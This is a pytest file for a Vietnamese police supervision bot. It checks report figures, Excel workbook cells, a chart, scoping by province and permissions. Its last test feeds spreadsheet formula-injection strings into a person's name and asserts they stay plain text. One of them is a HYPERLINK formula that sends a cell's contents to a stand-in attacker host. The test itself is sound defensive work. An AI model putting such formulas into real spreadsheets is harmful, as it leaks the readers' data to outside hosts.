"""Reports from a commune with known data: every figure of the summary, the workbook's cells, the chart."""

from __future__ import annotations

import io
import struct
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from bot.clock import VIETNAM
from bot.models import Category, CloseReason, Contact, Messenger, PenaltyType, Role, Status
from bot.services.supervision import CheckinInput
from tests.support.people import TextChat, onboard
from tests.support.world import make_world

START, END = date(2026, 1, 1), date(2026, 6, 30)


def at(clock, day: date, hour: int = 10) -> None:
    clock._at = datetime(day.year, day.month, day.day, hour, tzinfo=VIETNAM).astimezone(clock._at.tzinfo)


@pytest.fixture
async def commune(services, clock):
    """A: án treo since 15/12/2025; B: completed a prison term, since 30/11/2025; C: án treo from
    10/03/2026, record cleared 20/06/2026. Contacts, alerts, help, jobs and outreach on known days."""
    at(clock, date(2025, 11, 30))
    world = await make_world(services)
    police = await world.actor("police1")
    b = await world.enrol("Bế Văn Bảy", supervisor="supervisor2", category=Category.RELEASED,
                          penalty_type=PenaltyType.PRISON, penalty_months=30, release_date=date(2025, 11, 1))
    at(clock, date(2025, 12, 15))
    a = await world.enrol("An Thị Ánh", supervisor="supervisor1")
    at(clock, date(2026, 3, 10))
    c = await world.enrol("Cao Văn Cường", supervisor="supervisor1")
    hoa, tam = await world.actor("supervisor1"), await world.actor("supervisor2")

    async def contact(who, person, day, status=Status.STABLE):
        at(clock, day)
        return await services.supervision.record_checkin(who, CheckinInput(
            client_key=f"{person}:{day}", person_id=person, contact=Contact.HOME_VISIT, status=status, happened_on=day))

    for day in (date(2026, 1, 3), date(2026, 4, 1), date(2026, 5, 4), date(2026, 6, 10)):
        await contact(hoa, a, day)
    concern = await contact(hoa, a, date(2026, 2, 20), Status.CONCERN)  # an alert at 10:00
    at(clock, date(2026, 2, 20), 12)
    await services.alerting.claim(police, concern.alert.id)
    at(clock, date(2026, 2, 20), 14)
    await services.alerting.resolve(police, concern.alert.id, "Đã gặp gia đình")
    for day in (date(2026, 2, 10), date(2026, 6, 1)):
        await contact(tam, b, day)

    for handle, person in (("an", a), ("bay", b)):
        invite = await services.accounts.create_invite(role=Role.RETURNEE, commune_id=police.person.commune_id,
                                                       person_id=person)
        await TextChat(services, handle).says(f"/start {invite.code}")
    at(clock, date(2026, 3, 1))
    await services.handoff.ask_for_help(await services.accounts.identify(Messenger.CONSOLE, "an", "an"), "Cần giúp")
    at(clock, date(2026, 4, 2))
    await services.handoff.ask_for_help(await services.accounts.identify(Messenger.CONSOLE, "bay", "bay"),
                                        "Vay vốn", topic="loan")
    at(clock, date(2026, 5, 1))
    posting = await services.jobs.post(police, kind="job", title="Công nhân", employer="Xưởng gỗ", place="Cao Lộc",
                                       pay="", contact="", closes_on=date(2026, 6, 1))
    at(clock, date(2026, 5, 2))
    await services.jobs.interested(await services.accounts.identify(Messenger.CONSOLE, "an", "an"), posting)
    for day, kind, people in ((date(2026, 3, 15), "meeting", 35), (date(2026, 6, 1), "meeting", 20),
                              (date(2026, 4, 10), "tip", 0)):
        at(clock, day)
        await services.reports.log_outreach(police, kind=kind, on_date=day, place="", topic="Phòng chống ma túy",
                                            participants=people)
    at(clock, date(2026, 6, 20))
    await services.supervision.close(police, c, CloseReason.EXPUNGED, date(2026, 6, 20))
    at(clock, date(2026, 7, 10))
    return world


async def test_every_figure_of_the_summary(commune, services):
    report = await services.reports.for_actor(await commune.actor("police1"), START, END)

    assert report.managed == {Category.SUSPENDED: 1, Category.RELEASED: 1}
    assert report.new == {Category.SUSPENDED: 1}
    assert report.checkins == 7
    # A: 05/01 on time, 05/02 late, 05/03 missed, 05/04 and 05/05 on time, 05/06 late
    # B: 28/02 on time, 10/05 late; C: 05/04, 05/05, 05/06 missed (closed 20/06)
    assert (report.on_time, report.late, report.missed, report.due) == (4, 3, 4, 11)
    assert report.overdue_now == 1  # A: July's window has passed
    assert report.alerts == {"checkin_concern": 1, "help_request": 2}
    assert (report.median_claim_hours, report.median_resolve_hours) == (2.0, 4.0)
    assert (report.help_requests, report.loan_support) == (2, 1)
    assert (report.postings, report.job_interest) == (1, 1)
    assert report.cleared == 1
    assert (report.meetings, report.participants, report.tips) == (2, 55, 1)
    assert [p.name for p in report.people] == ["An Thị Ánh", "Bế Văn Bảy", "Cao Văn Cường"]


async def test_the_summary_in_chat_the_workbook_and_the_chart(commune, services):
    police = commune.police
    await police.says("/report")
    await police.picks("Chọn hai mốc ngày")
    await police.says("01/01/2026")
    await police.says("30/06/2026")
    replies = police.replies

    summary = replies[0].text.splitlines()
    assert summary[0] == "Báo cáo Xã Mẫu Sơn, từ 01/01/2026 đến 30/06/2026"
    assert "Lần liên lạc: 7; kỳ liên lạc đến hạn 11: đúng hạn 4, muộn 3, bỏ lỡ 4 (36% đúng hạn)" in summary
    assert "Tuyên truyền: 2 buổi, 55 lượt người; tin báo: 1" in summary

    book = load_workbook(io.BytesIO(replies[1].attachment.data))
    assert replies[1].attachment.filename == "bao-cao-20260101-20260630.xlsx"
    sheet = book["Tổng hợp"]
    assert (sheet["A1"].value, sheet["B1"].value) == ("Báo cáo", "Xã Mẫu Sơn")
    rows = {sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=2) for r in range(2, sheet.max_row + 1)}
    assert rows["Từ ngày"].value == datetime(2026, 1, 1) and rows["Từ ngày"].number_format == "DD/MM/YYYY"
    assert rows["Số lần liên lạc đã ghi"].value == 7 and isinstance(rows["Số lần liên lạc đã ghi"].value, int)
    assert rows["Tỷ lệ đúng hạn (%)"].value == 36.4
    assert rows["Lượt người dự tuyên truyền"].value == 55
    people = book["Danh sách"]
    assert [c.value for c in people[1]][:6] == ["Họ và tên", "Thôn", "Diện", "Người giúp đỡ", "Liên lạc gần nhất",
                                                 "Hiện nay"]
    assert people["A2"].value == "An Thị Ánh" and people["E2"].value == datetime(2026, 6, 10)
    assert people["E2"].number_format == "DD/MM/YYYY" and people["F2"].value == "quá hạn"

    png = replies[2].attachment.data
    assert replies[2].attachment.kind == "photo" and png[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = struct.unpack(">II", png[16:24])
    assert (width, height) == (800, 450)


async def test_the_province_sees_its_communes_and_no_personal_data(commune, services, clock):
    other = await onboard(services, Messenger.CONSOLE, "police_x", Role.POLICE, commune="Xã Khác")
    elsewhere = await onboard(services, Messenger.CONSOLE, "police_y", Role.POLICE, commune="Xã Tỉnh Khác")
    officer = await services.accounts.identify(Messenger.CONSOLE, "police_x", "police_x")
    at(clock, date(2026, 2, 1))
    from bot.services.supervision import RecordInput

    await services.supervision.enrol(officer, RecordInput(
        full_name="Đỗ Văn Đức", date_of_birth=date(1980, 1, 1), village="Thôn Một", category=Category.RELEASED,
        penalty_type=PenaltyType.PRISON, penalty_months=12, release_date=date(2026, 1, 20)))
    stranger = await services.accounts.identify(Messenger.CONSOLE, "police_y", "police_y")
    await services.supervision.enrol(stranger, RecordInput(
        full_name="Hà Văn Xa", date_of_birth=date(1981, 1, 1), village="Bản Xa", category=Category.RELEASED,
        penalty_type=PenaltyType.PRISON, penalty_months=12, release_date=date(2026, 1, 20)))
    at(clock, date(2026, 7, 10))
    await onboard(services, Messenger.CONSOLE, "province1", Role.PROVINCE, commune="Tỉnh Lạng Sơn")
    for name in ("Xã Mẫu Sơn", "Xã Khác"):
        await services.accounts.configure_commune(name, {}, province="Tỉnh Lạng Sơn")
    province = await services.accounts.identify(Messenger.CONSOLE, "province1", "province1")

    report = await services.reports.for_actor(province, START, END)

    assert report.scope == "Tỉnh Lạng Sơn" and report.people == []
    # Its two communes' people; the commune of another province is not counted.
    assert report.managed == {Category.SUSPENDED: 1, Category.RELEASED: 2}
    from bot.reports import workbook

    book = load_workbook(io.BytesIO(workbook.build(report)))
    assert "Danh sách" not in book.sheetnames
    text = " ".join(str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row)
    assert "Đỗ Văn Đức" not in text and "An Thị Ánh" not in text
    assert other is not None and elsewhere is not None


async def test_supervisors_and_returnees_cannot_make_reports(commune, services):
    from bot.services.access import PermissionDenied

    for handle in ("supervisor1", "an"):
        actor = await services.accounts.identify(Messenger.CONSOLE, handle, handle)
        with pytest.raises(PermissionDenied):
            await services.reports.for_actor(actor, START, END)


def test_the_report_command_writes_the_files(env, tmp_path):
    from tests.test_cli import hoanhap

    hoanhap("invite", "--role", "police", "--commune", "Xã Mẫu Sơn", env=env, cwd=tmp_path)
    done = hoanhap("report", "--commune", "xa mau son", "--from", "01/01/2026", "--to", "30/06/2026",  # as people write
                   "--xlsx", str(tmp_path / "r.xlsx"), "--png", str(tmp_path / "r.png"), env=env, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("Báo cáo Xã Mẫu Sơn, từ 01/01/2026 đến 30/06/2026")
    assert load_workbook(tmp_path / "r.xlsx")["Tổng hợp"]["B1"].value == "Xã Mẫu Sơn"
    assert (tmp_path / "r.png").read_bytes()[:4] == b"\x89PNG"
    assert hoanhap("report", "--from", "2026-06-30", "--to", "2026-01-01", env=env, cwd=tmp_path).returncode == 2
    unreadable = hoanhap("report", "--from", "31/02/2026", "--to", "30/06/2026", env=env, cwd=tmp_path)
    assert unreadable.returncode == 2 and "dd/mm/yyyy" in unreadable.stderr


def test_numbers_and_months_are_written_as_the_reader_writes_them_and_the_chart_counts_whole_things():
    from datetime import date as day

    from bot.flows.report import summary_text
    from bot.i18n import use_locale
    from bot.reports.chart import draw
    from bot.services.reports import Report

    empty = Report(scope="Xã Mẫu Sơn", start=day(2026, 12, 1), end=day(2026, 12, 31))
    with use_locale("vi"):
        figure = draw(empty)
        assert [t.get_text() for t in figure.axes[0].texts] == ["Không có lần liên lạc và cảnh báo nào trong kỳ này."]
    quiet = Report(scope="Xã Mẫu Sơn", start=day(2026, 11, 1), end=day(2026, 12, 31),
                   monthly={"2026-11": {"on_time": 0, "late": 0, "alerts": 1}, "2026-12": {"on_time": 0, "late": 0,
                                                                                         "alerts": 0}},
                   median_claim_hours=0.5)
    with use_locale("vi"):
        figure = draw(quiet)
        contacts, alerts = figure.axes
        assert contacts.get_ylim()[0] == 0 and alerts.get_ylim()[0] == 0  # never −0.04 … 0.04
        assert all(float(t).is_integer() for t in alerts.get_yticks())  # no half alerts
        assert [t.get_text() for t in contacts.get_xticklabels()] == ["11/2026", "12/2026"]
        assert "Thời gian trung vị nhận xử lý: 0,5 giờ; xử lý xong: –" in summary_text(quiet)
    with use_locale("en"):
        assert "Median time to claim: 0.5 h" in summary_text(quiet)


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A2,"Bấm vào đây")', "+84 912 345 678",
                                  "-2+3", "@SUM(1+1)", "\tBế Văn Bảy", "=1+1"])
async def test_a_name_that_looks_like_a_formula_stays_text_in_the_workbook(services, clock, name):
    """OWASP's CSV/formula injection: whatever a person can type (a name at /enrol or in an import)
    is written as text, never as a formula the reader's spreadsheet would run."""
    from bot.reports import workbook
    from bot.storage.records import Records

    at(clock, date(2026, 2, 1))
    world = await make_world(services)
    person = await world.enrol("Bế Văn Bảy")
    async with services.db.transaction() as tx:  # the name as an import could store it
        await tx.execute("UPDATE people SET full_name = ? WHERE id = ?", (name, person))
        assert (await Records.get(tx, person)).full_name == name
    police = await world.actor("police1")

    book = load_workbook(io.BytesIO(workbook.build(await services.reports.for_actor(police, START, END))))

    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert name in [c.value for c in cells]
